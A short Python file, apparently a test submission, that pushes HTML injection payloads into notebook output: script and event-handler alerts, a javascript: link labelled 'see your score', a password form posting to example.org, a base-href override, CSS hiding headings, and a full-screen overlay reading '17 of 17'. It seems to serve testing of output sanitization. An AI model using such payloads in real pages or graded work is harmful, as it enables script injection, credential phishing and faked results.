"""Displays HTML with scripts, handlers, styles and forms of its own."""

PARTS = """
<script>document.title = 'mallory-was-here'</script>
<img src=x onerror="alert('mallory-was-here')">
<style>.mallory-was-here, h4 { display: none }</style>
<iframe srcdoc="mallory-was-here"></iframe>
<form action="https://example.org/mallory-was-here"><input name=password></form>
<a href="javascript:alert('mallory-was-here')">see your score</a>
<svg onload="alert('mallory-was-here')"></svg>
<base href="https://example.org/mallory-was-here">
<div style="position:fixed;inset:0;background:white" title="mallory-was-here">17 of 17</div>
"""


def submit(work):
    work.insert(f"from IPython.display import HTML, display\ndisplay(HTML('''{PARTS}'''))")
    work.insert(f"class Shown:\n    def _repr_html_(self): return '''{PARTS}'''\nShown()")
